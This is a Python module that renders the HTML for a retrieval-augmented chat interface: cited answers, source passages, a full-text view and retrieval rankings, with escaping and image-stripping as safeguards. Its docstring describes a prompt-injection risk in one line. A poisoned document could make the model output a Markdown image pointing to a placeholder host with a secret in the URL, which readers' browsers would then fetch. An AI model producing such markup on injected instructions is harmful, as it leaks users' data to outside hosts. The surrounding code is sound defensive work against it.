"""HTML for the web chat: answers with clickable ``[n]`` citations, the sources panel with the
evidence marked, the 查看全文 view, the 检索测试 lists, the document list.

Everything that came from a model or a document is HTML-escaped before our own markup is added,
and chat messages (rendered as Markdown) lose their images: a poisoned document could otherwise
steer the model into ``![](http://host/?q=secret)``, which every reader's browser would fetch.
Citation links point at ``#rag-src-<turn>-<n>``; ``rag/web/static/citations.js`` turns a click into
"show that turn's passages, highlight passage n, scroll to it".
"""

from __future__ import annotations

import html
import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path
from typing import Any

from rag.index.chunking import Chunk
from rag.index.reassemble import DocumentText
from rag.index.store import DocumentRecord
from rag.qa.citations import Citation
from rag.qa.pipeline import Answer
from rag.qa.retriever import Rankings, SearchHit

NO_ANSWER_TITLE = "资料中没有找到答案"
NO_ANSWER_HINT = "知识库里的文章没有提到这一点。可以换个问法，或到「知识库」页上传相关文章。"
EMPTY_SOURCES = "提问后，这里会显示回答所依据的资料段落。点击回答中的编号（如 [1]）可定位到对应段落。"
REFUSED_SOURCES = "这些是找到的最接近的段落，但它们没有回答这个问题。"
DOCUMENT_HEADERS = ["标题", "文件", "段落数", "加入时间", "文章编号"]

_CITATION = re.compile(r"[\[【]\s*(\d{1,2})\s*(\?|？)?\s*[\]】]")
_INLINE_IMAGE = re.compile(r"!\[([^\]\n]*)\]\([^)\n]*\)?")  # also one still streaming in: ``![x](http://ho``


@dataclass
class ChatTurn:
    """One question and its answer as the chat shows it, while streaming and after."""

    question: str
    text: str = ""
    passages: list[SearchHit] = field(default_factory=list)
    answer: Answer | None = None
    error: str = ""
    queue_position: int = 0  # > 0 while the model answers others first

    @property
    def finished(self) -> bool:
        return self.answer is not None or bool(self.error)


def citation_links(text: str, turn: int) -> str:
    """Escape ``text`` and turn ``[n]`` / ``[n?]`` into links to passage ``n`` of ``turn``."""

    def link(match: re.Match[str]) -> str:
        n, unverified = match.group(1), bool(match.group(2))
        if unverified:
            return (
                f'<a class="rag-cite rag-unverified" href="#rag-src-{turn}-{n}" title="未能在资料 [{n}] 中核实这句话">[{n}?]</a>'
            )
        return f'<a class="rag-cite" href="#rag-src-{turn}-{n}" title="查看资料 [{n}]">[{n}]</a>'

    return _CITATION.sub(link, markdown_text(text))


def markdown_text(text: str) -> str:
    """``text`` escaped for a Markdown message, with no image in it.

    ``![alt](url)`` becomes its alt text; any other ``![`` (a reference image) loses the ``!``'s
    meaning as the entity ``&#33;``, so what remains is at most a link, which needs a click."""
    escaped = html.escape(_INLINE_IMAGE.sub(r"\1", text), quote=False)
    return escaped.replace("![", "&#33;[")


def answer_html(turn: ChatTurn, index: int) -> str:
    """The assistant message of turn ``index``: an error, a refusal notice, or the cited answer."""
    if turn.error:
        return f'<div class="rag-notice rag-error">⚠️ {html.escape(turn.error)}</div>'
    if turn.answer is not None and turn.answer.refused:
        return f'<div class="rag-notice rag-refusal"><strong>🔍 {NO_ANSWER_TITLE}</strong><br><span>{NO_ANSWER_HINT}</span></div>'
    if not turn.text and turn.queue_position:
        return f'<span class="rag-pending rag-queued">排队中：前面还有 {turn.queue_position} 个问题，请稍候…</span>'
    if not turn.text:
        step = "正在生成回答…" if turn.passages else "正在查找资料…"
        return f'<span class="rag-pending">{step}</span>'
    body = citation_links(turn.text, index)
    if not turn.finished:
        return body + '<span class="rag-cursor">▍</span>'
    if turn.answer is not None and any(not c.verified for c in turn.answer.citations):
        body += '\n\n<span class="rag-caveat">带问号的编号（如 [1?]）表示这句话未能在对应资料中核实，请查看原文。</span>'
    return body


def chat_messages(turns: Sequence[ChatTurn]) -> list[dict[str, str]]:
    """The Chatbot value: a user and an assistant message per turn."""
    messages: list[dict[str, str]] = []
    for index, turn in enumerate(turns):
        messages.append({"role": "user", "content": markdown_text(turn.question)})
        messages.append({"role": "assistant", "content": answer_html(turn, index)})
    return messages


def _cited(turn: ChatTurn) -> dict[int, Citation]:
    return {c.n: c for c in turn.answer.citations if c.verified} if turn.answer else {}


def marked(text: str, start: int, end: int) -> str:
    """``text`` escaped, with ``text[start:end]`` in a ``<mark class="rag-evidence">`` (none when empty)."""
    if not 0 <= start < end <= len(text):
        return html.escape(text)
    parts = (text[:start], text[start:end], text[end:])
    return f'{html.escape(parts[0])}<mark class="rag-evidence">{html.escape(parts[1])}</mark>{html.escape(parts[2])}'


def _page_html(chunk: Chunk) -> str:
    return f' <span class="rag-page">{chunk.page_label}</span>' if chunk.page else ""


def _passage_html(hit: SearchHit, turn: int, n: int, citation: Citation | None) -> str:
    chunk = hit.chunk
    badge = '<span class="rag-badge">已引用</span>' if citation else ""
    title = html.escape(chunk.title or "（无标题）")
    start, end = (citation.start, citation.end) if citation else (0, 0)
    full = (
        f'<a class="rag-fulltext" href="#" data-kb="{html.escape(hit.kb)}" data-doc="{html.escape(chunk.doc_id)}"'
        f' data-chunk="{html.escape(chunk.chunk_id)}" data-start="{start}" data-end="{end}">查看全文</a>'
    )
    kb = f'<span class="rag-kb">🗂 {html.escape(hit.kb)}</span> · ' if hit.kb else ""
    return (
        f'<article class="rag-passage{" rag-cited" if citation else ""}" id="rag-src-{turn}-{n}" data-n="{n}">'
        f'<header><span class="rag-num">{n}</span><span class="rag-title">{title}</span>{badge}</header>'
        f'<div class="rag-file">{kb}📄 {html.escape(Path(chunk.source).name)}{_page_html(chunk)}{_meta_html(chunk)} · {full}</div>'
        f'<div class="rag-text">{marked(chunk.text, start, end)}</div>'
        "</article>"
    )


def _part_header(hit: SearchHit, previous: SearchHit | None) -> str:
    """For a question in several parts: the sub-questions heading the passages found for them."""
    if not hit.parts or (previous is not None and previous.parts == hit.parts):
        return ""
    return f'<div class="rag-part">{html.escape(" / ".join(hit.parts))}</div>'


def _meta_html(chunk: Chunk) -> str:
    """The publication date and tags of a passage, after its file name."""
    parts = [f'<span class="rag-date">{chunk.date}</span>'] if chunk.date else []
    parts += [f'<span class="rag-tag">#{html.escape(tag)}</span>' for tag in chunk.tags]
    return "".join(f" · {part}" for part in parts)


def last_sync_line(record: dict[str, Any] | None) -> str:
    """The knowledge-base summary's line about the last folder sync ("" if there was none)."""
    if not record:
        return ""
    counts = "，".join(
        f"{label} {int(record.get(key, 0))}" for key, label in (("added", "新增"), ("replaced", "更新"), ("removed", "删除"))
    )
    return f"上次同步：{format_time(str(record['time']))}，文件夹 {record.get('folder', '')}（{counts}）"


def sources_html(turns: Sequence[ChatTurn]) -> str:
    """The sources panel: every turn's passages, numbered; only the latest turn is visible at first."""
    sections = []
    for index, turn in enumerate(turns):
        if not turn.passages:
            continue
        cited = _cited(turn)
        passages = "".join(
            _part_header(hit, turn.passages[n - 2] if n > 1 else None) + _passage_html(hit, index, n, cited.get(n))
            for n, hit in enumerate(turn.passages, start=1)
        )
        hidden = "" if index == len(turns) - 1 else " hidden"
        refused = turn.answer is not None and turn.answer.refused
        note = f'<div class="rag-note">{REFUSED_SOURCES}</div>' if refused else ""
        sections.append(
            f'<section class="rag-turn" data-turn="{index}"{hidden}>'
            f'<div class="rag-question">问：{html.escape(turn.question)}</div>{note}{passages}</section>'
        )
    if not sections:
        return f'<div class="rag-sources"><p class="rag-empty">{EMPTY_SOURCES}</p></div>'
    return f'<div class="rag-sources">{"".join(sections)}</div>'


def format_time(stamp: str) -> str:
    """``2025-11-21T23:31:05+0800`` as ``2025-11-21 23:31`` (unparseable stamps unchanged)."""
    try:
        return datetime.strptime(stamp, "%Y-%m-%dT%H:%M:%S%z").strftime("%Y-%m-%d %H:%M")
    except ValueError:
        return stamp


def document_rows(records: Sequence[DocumentRecord]) -> list[list[str | int]]:
    """Rows of the knowledge-base table, newest first (see :data:`DOCUMENT_HEADERS`)."""
    ordered = sorted(records, key=lambda r: (r.added_at, r.doc_id), reverse=True)
    return [[r.title, Path(r.source).name, r.n_chunks, format_time(r.added_at), r.doc_id] for r in ordered]


def document_html(title: str, source: str, document: DocumentText, chunk_id: str, start: int, end: int, key: str = "") -> str:
    """The 查看全文 view: the whole document, the cited chunk outlined and its evidence marked.

    ``key`` (the browser's request number) makes each view new, so the page notices it arrived."""
    text = document.text
    chunk_start, chunk_end = document.spans.get(chunk_id, (0, 0))
    chunk = text[chunk_start:chunk_end]
    body = (
        f'{html.escape(text[:chunk_start])}<span class="rag-doc-chunk">{marked(chunk, start, end)}</span>'
        f"{html.escape(text[chunk_end:])}"
        if chunk_end
        else html.escape(text)
    )
    return (
        f'<div class="rag-modal" data-key="{html.escape(key)}"><div class="rag-modal-box" role="dialog" aria-label="全文">'
        f"<header><strong>{html.escape(title or '（无标题）')}</strong>"
        f'<span class="rag-file">📄 {html.escape(Path(source).name)}</span>'
        '<button class="rag-modal-close" type="button" title="关闭">✕</button></header>'
        f'<div class="rag-doc-text">{body}</div></div></div>'
    )


def missing_document_html(key: str = "") -> str:
    """The 查看全文 view of a document that left the knowledge base."""
    return (
        f'<div class="rag-modal" data-key="{html.escape(key)}"><div class="rag-modal-box"><header><strong>找不到这篇文章</strong>'
        '<button class="rag-modal-close" type="button" title="关闭">✕</button></header>'
        '<p class="rag-empty">它可能已从知识库中删除。</p></div></div>'
    )


RANKING_COLUMNS = (  # (mode, heading, short name, what the score is)
    ("dense", "向量检索（dense）", "向量", "余弦相似度"),
    ("bm25", "关键词检索（BM25）", "BM25", "BM25 分数"),
    ("hybrid", "融合结果（RRF）", "融合", "RRF 分数"),
)


def _hit_html(hit: SearchHit, score_name: str, elsewhere: str) -> str:
    chunk = hit.chunk
    also = f" · 也在 {elsewhere}" if elsewhere else ""
    kb = f'<span class="rag-kb">🗂 {html.escape(hit.kb)}</span> · ' if hit.kb else ""
    return (
        f'<li class="rag-hit" data-chunk="{html.escape(chunk.chunk_id)}">'
        f'<header><span class="rag-num">{hit.rank}</span><span class="rag-title">{html.escape(chunk.title or "（无标题）")}</span>'
        f'<span class="rag-score" title="{score_name}">{hit.score:.4f}</span></header>'
        f'<div class="rag-file">{kb}📄 {html.escape(Path(chunk.source).name)}{also}</div>'
        f'<div class="rag-text">{html.escape(chunk.text)}</div></li>'
    )


def rankings_html(rankings: Rankings) -> str:
    """The 检索测试 page: the three ranked lists side by side, each hit with its ranks in the others."""
    lists = {mode: getattr(rankings, mode) for mode, *_ in RANKING_COLUMNS}
    ranks = {mode: {hit.chunk.chunk_id: hit.rank for hit in hits} for mode, hits in lists.items()}
    columns = []
    for mode, heading, _, score_name in RANKING_COLUMNS:
        rows = []
        for hit in lists[mode]:
            elsewhere = " · ".join(
                f"{short} #{ranks[other][hit.chunk.chunk_id]}"
                for other, _, short, _ in RANKING_COLUMNS
                if other != mode and hit.chunk.chunk_id in ranks[other]
            )
            rows.append(_hit_html(hit, score_name, elsewhere))
        body = "".join(rows) or '<li class="rag-empty">没有找到</li>'
        columns.append(f'<section class="rag-ranking" data-mode="{mode}"><h4>{heading}</h4><ol>{body}</ol></section>')
    return f'<div class="rag-rankings">{"".join(columns)}</div>'
